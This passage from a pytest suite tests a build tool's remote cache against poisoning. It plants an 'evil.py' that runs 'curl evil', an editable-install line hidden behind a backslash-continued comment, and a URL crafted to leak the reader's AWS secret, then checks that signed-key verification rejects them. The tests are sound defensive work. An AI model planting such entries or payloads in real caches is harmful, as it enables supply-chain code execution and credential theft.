    assert honest.returncode == 0, honest.stderr
    (tree,) = (tmp_path / "cache-h" / "trees").iterdir()
    evil = tmp_path / "evil-entry"
    shutil.copytree(tree, evil, ignore=shutil.ignore_patterns("manifest.json"))
    for p in evil.rglob("*"):
        p.chmod(0o755 if p.is_dir() else 0o644)
    (evil / "tree" / "evil.py").write_text("import os; os.system('curl evil')\n")
    for name, value in s3_server.env(WRITER).items():
        monkeypatch.setenv(name, value)
    RemoteCache(RemoteConfig(url, write=True)).push("trees", tree.name, evil)  # no key: the attacker has none
    _, public = new_key()
    flags = ["--remote-cache", url, *(["--remote-cache-trusted-key", public.line] if trusted else [])]
    b = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, READER, tmp_path / "cache-b"), *flags)
    assert b.returncode == 0, b.stderr
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        shipped = "evil.py" in zf.namelist()
    if trusted:
        (warning,) = [line for line in b.stderr.splitlines() if "warning:" in line]
        assert f"ac/trees/{tree.name}.json is not signed" in warning and "building locally" in warning
        assert not shipped and (tmp_path / "b.zip").read_bytes() == (tmp_path / "honest.zip").read_bytes()
        assert report(tmp_path / "b.zip")["cache"]["install"] == "miss"
    else:
        assert shipped and "warning" not in b.stderr


@pytest.mark.parametrize("attack", ["editable", "secret-url"])
def test_a_planted_remote_resolution_runs_nothing_and_sends_nothing(tmp_path: Path, wheel_index: WheelIndex,
                                                                    s3_server: S3Server, s3_bucket: str,
                                                                    attacker_server: tuple[int, list[str]],
                                                                    monkeypatch: pytest.MonkeyPatch,
                                                                    attack: str) -> None:
    """Issue 22's two HIGH attacks, as a bucket writer runs them: under the key of a good resolution, an entry
    whose pins hide ``-e <the entry's own folder>`` behind a backslash-continued comment (its build backend would
    run on the reader), or name a URL that uv would expand with the reader's AWS secret. The reader checks the
    record before anything reads it: one warning, a build from the index, the honest bundle."""
    port, requests = attacker_server
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    src, good, evil = good_entry(tmp_path, s3_server, wheel_index, "purepkg\n", "resolutions")
    marker = tmp_path / "pwned"
    reader = tmp_path / "cache-b"
    plant_pins(evil, **attack_fields(attack, evil, marker, port, unpacked=reader / "resolutions" / good.name))
    push_as_writer(monkeypatch, s3_server, url, "resolutions", good.name, evil)
    b = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, READER, reader), "--remote-cache", url)
    assert not marker.exists(), "the planted build backend ran on the reader"
    assert requests == [], f"the reader sent {requests} to the attacker"
    assert b.returncode == 0, b.stderr
    (warning,) = [line for line in b.stderr.splitlines() if "warning:" in line]
    assert f"remote cache entry resolutions/{good.name[:16]}" in warning and "rejected" in warning, warning
    assert READER[1] not in b.stderr
    assert report(tmp_path / "b.zip")["cache"]["resolve"] == "miss"
    assert (tmp_path / "b.zip").read_bytes() == (tmp_path / "good.zip").read_bytes()
